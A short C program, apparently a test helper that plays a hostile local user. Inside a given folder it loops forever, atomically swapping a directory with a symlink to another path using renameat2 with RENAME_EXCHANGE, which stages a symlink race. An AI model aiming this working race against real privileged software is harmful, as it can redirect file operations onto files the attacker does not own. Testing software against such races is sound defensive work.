/* A hostile user's: in FOLDER/sub, change a folder for a link to OTHER and back, at one stroke each, and make them anew when
 * they are gone, again and again until killed: FOLDER OTHER. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

int main(int argc, char **argv) {
	if (argc < 3 || chdir(argv[1]) || chdir("sub") || write(1, "begins\n", 7) != 7) return 1;
	for (;;) {
		if (symlink(argv[2], "link") == 0 || mkdir("0", 0777) == 0) chmod("0", 0777);
		for (int i = 0; i < 50; i++) renameat2(AT_FDCWD, "0", AT_FDCWD, "link", RENAME_EXCHANGE);
		chmod(".", 0777);
	}
}
